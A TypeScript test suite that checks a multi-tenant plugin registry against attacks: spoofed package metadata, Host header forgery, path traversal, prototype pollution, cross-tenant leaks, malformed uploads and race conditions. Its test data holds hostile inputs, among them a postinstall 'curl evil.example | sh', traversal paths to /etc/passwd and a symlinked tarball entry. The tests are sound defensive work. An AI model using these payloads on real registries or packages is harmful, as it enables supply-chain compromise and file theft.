import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { type IncomingMessage, request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { json, text } from 'node:stream/consumers';
import { type TestDatabase, createTestDatabase, seedTenant } from '@ia-modules/database/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTarball } from '../src/testing/build-tarball.ts';
import type { Registry } from '../src/registry.ts';
import { pluginPackageJson, pluginTarball, publishBody } from '../src/testing/plugin-package.ts';
import { startTestRegistry } from './test-registry.ts';

const NAME = '@community/target';
const TARBALL = pluginTarball(pluginPackageJson({ name: NAME }));

let database: TestDatabase;
let registry: Registry;
let root: string;
let token: string;
let otherToken: string;

beforeAll(async () => {
  database = await createTestDatabase();
  root = await mkdtemp(join(tmpdir(), 'ia-registry-'));
  registry = await startTestRegistry(database.urls.registry, join(root, 'storage'));
  const acme = await seedTenant(database, { slug: 'acme', name: 'Acme' });
  const globex = await seedTenant(database, { slug: 'globex', name: 'Globex' });
  token = await acme.apiToken(['PLUGINS_READ', 'PLUGINS_PUBLISH']);
  otherToken = await globex.apiToken(['PLUGINS_READ', 'PLUGINS_PUBLISH']);
  const published = await put(NAME, publishBody(NAME, '1.0.0', TARBALL));
  if (published.status !== 201) throw new Error(await published.text());
});

afterAll(async () => {
  await registry?.stop();
  await database?.drop();
  await rm(root, { recursive: true, force: true });
});

async function put(name: string, body: unknown, authorization = `Bearer ${token}`): Promise<Response> {
  return await fetch(`${registry.url}/${encodeURIComponent(name)}`, {
    method: 'PUT',
    headers: { authorization },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
}

/** Sends a path as it is: fetch would resolve the dots. */
async function getRaw(path: string, headers: Readonly<Record<string, string>> = {}): Promise<IncomingMessage> {
  const { port } = new URL(registry.url);
  const sent = request({ host: '127.0.0.1', port, path, headers });
  sent.end();
  const [response] = (await once(sent, 'response')) as [IncomingMessage];
  return response;
}

describe('what the registry serves', () => {
  it('comes from the tarball, whatever the request says about it', async () => {
    const name = '@community/confusion';
    const tarball = pluginTarball(pluginPackageJson({ name, dependencies: { left: '1.0.0' } }));
    const body = publishBody(name, '1.0.0', tarball);
    const versions = body['versions'] as Record<string, Record<string, unknown>>;
    Object.assign(versions['1.0.0'] ?? {}, {
      description: 'A lie.',
      scripts: { postinstall: 'curl evil.example | sh' },
      dependencies: { evil: '6.6.6' },
      bin: { npm: 'evil.js' },
      iaModules: { apiVersion: 1, permissions: { net: ['evil.example'] } },
    });
    expect((await put(name, body)).status).toBe(201);
    const served = (await (await fetch(`${registry.url}/${name}/1.0.0`)).json()) as Record<string, unknown>;
    expect(served).toMatchObject({ description: 'Counts words.', dependencies: { left: '1.0.0' } });
    expect(JSON.stringify(served)).not.toMatch(/evil|lie|scripts/i);
  });

  it('names its own address for tarballs, not one that a request brings along', async () => {
    const headers = { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' };
    const body = await json(await getRaw(`/${NAME}/1.0.0`, headers));
    expect(body).toMatchObject({ dist: { tarball: `${registry.url}/${NAME}/-/target-1.0.0.tgz` } });
  });

  it.each([
    '/.verdaccio-db.json',
    '/../.verdaccio-db.json',
    '/@community/..%2f..%2f.verdaccio-db.json',
    '/@community%2f..%2f..%2f.verdaccio-db.json',
    '/@community/target/-/..%2f..%2f..%2f.verdaccio-db.json',
    '/@community/target/-/package.json',
    '/@community/target/-/..',
    '/-/static/../../../../etc/passwd',
    '/__proto__',
    '/@community%2f__proto__',
    '/constructor',
  ])('is never a file of its own: %s', async (path) => {
    const response = await getRaw(path, { authorization: `Bearer ${token}` });
    const body = await text(response);
    expect([400, 403, 404]).toContain(response.statusCode);
    expect(body).not.toMatch(/secret|root:|_attachments/);
  });

  it('tells a stranger nothing about which private packages there are', async () => {
    const name = '@acme/hidden';
    const tarball = pluginTarball(pluginPackageJson({ name }));
    expect((await put(name, publishBody(name, '1.0.0', tarball))).status).toBe(201);
    const authorization = `Bearer ${otherToken}`;
    for (const path of ['/%s', '/%s/1.0.0', '/%s/-/hidden-1.0.0.tgz', '/-/package/%s/dist-tags']) {
      const answers = ['@acme%2fhidden', '@acme%2fnothing'].map(async (each) => {
        const response = await fetch(`${registry.url}${path.replace('%s', each)}`, { headers: { authorization } });
        return [response.status, await response.text()];
      });
      const [hidden, missing] = await Promise.all(answers);
      expect(hidden).toEqual(missing);
      expect(hidden?.[0]).toBe(404);
    }
  });
});

describe('what the registry takes', () => {
  it('refuses a large body of a stranger by its header, and one that is too large from anyone', async () => {
    expect((await put(NAME, 'x'.repeat(5_000_000), '')).status).toBe(401);
    expect((await put(NAME, 'x'.repeat(5_000_000), 'Bearer ia_wrong')).status).toBe(401);
    const tooLarge = await put(NAME, 'x'.repeat(17 * 1024 * 1024)).catch(() => null);
    expect(tooLarge?.status ?? 400).toBe(400);
    expect((await fetch(`${registry.url}/-/ping`)).status).toBe(200);
  });

  it.each<[string, unknown]>([
    ['no JSON', '{'],
    ['a list', []],
    ['null', 'null'],
    ['deep nesting', '['.repeat(100_000) + ']'.repeat(100_000)],
    ['a star', { _id: NAME, users: { eve: true } }],
    ['an empty package', { name: NAME, versions: {}, _attachments: {} }],
    ['a body for another name', publishBody('@community/other', '1.0.1', TARBALL)],
    ['a tarball that is none', publishBody(NAME, '1.0.1', Buffer.from('hello'))],
    ['a tarball of another version', publishBody(NAME, '1.0.1', TARBALL)],
    [
      'a link in the tarball',
      publishBody(
        NAME,
        '1.0.1',
        buildTarball([{ path: 'package/package.json', type: 'SymbolicLink', linkpath: '/etc/passwd' }]),
      ),
    ],
  ])('refuses %s and keeps what is there', async (_name, body) => {
    const response = await put(NAME, body);
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(response.status).toBeLessThan(500);
    expect(await response.json()).toMatchObject({ error: expect.stringMatching(/^IA_/) });
    const served = (await (await fetch(`${registry.url}/${NAME}`)).json()) as { readonly versions: object };
    expect(Object.keys(served.versions)).toEqual(['1.0.0']);
  });

  it('refuses to drop or change a version, in every way that npm knows', async () => {
    const packument = (await (await fetch(`${registry.url}/${NAME}`)).json()) as {
      readonly versions: Record<string, { dist: { integrity: string } }>;
    };
    const changed = structuredClone(packument);
    for (const version of Object.values(changed.versions)) version.dist.integrity = 'sha512-other';
    expect((await put(NAME, { ...packument, versions: {} })).status).toBe(403);
    expect((await put(NAME, changed)).status).toBe(403);
    const headers = { authorization: `Bearer ${token}` };
    const path = `${registry.url}/${encodeURIComponent(NAME)}`;
    const removals = [`${path}/-rev/1-a`, path, `${path}/-/target-1.0.0.tgz/-rev/1-a`, `${path}/-/target-1.0.0.tgz`];
    for (const url of removals) {
      expect([url, (await fetch(url, { method: 'DELETE', headers })).status]).toEqual([url, 403]);
    }
    const revision = await fetch(`${path}/-rev/1-a`, { method: 'PUT', headers, body: JSON.stringify(packument) });
    expect(revision.status).toBe(403);
  });

  it('gives names that read alike to one tenant, however many ask at once', async () => {
    const attempts = Array.from({ length: 8 }, (_, index) => {
      const name = `@community/crowded${'-'.repeat(index + 1)}name`;
      const body = publishBody(name, '1.0.0', pluginTarball(pluginPackageJson({ name })));
      return put(name, body, `Bearer ${index % 2 === 0 ? token : otherToken}`);
    });
    const statuses = (await Promise.all(attempts)).map((response) => response.status);
    const byTenant = [statuses.filter((_, index) => index % 2 === 0), statuses.filter((_, index) => index % 2 === 1)];
    expect(byTenant.map((found) => found.filter((status) => status === 201).length).toSorted((a, b) => a - b)).toEqual([
      0, 4,
    ]);
    expect(statuses.filter((status) => status === 422)).toHaveLength(4);
  });

  it('publishes a version once, however many try at once', async () => {
    const name = '@community/crowd';
    const attempts = Array.from({ length: 10 }, (_, index) => {
      const tarball = pluginTarball(pluginPackageJson({ name, description: `Try ${index}.` }));
      return put(name, publishBody(name, '1.0.0', tarball));
    });
    const statuses = (await Promise.all(attempts)).map((response) => response.status);
    expect(statuses.filter((status) => status === 201)).toHaveLength(1);
    expect(statuses.filter((status) => status === 409)).toHaveLength(9);
  });
});
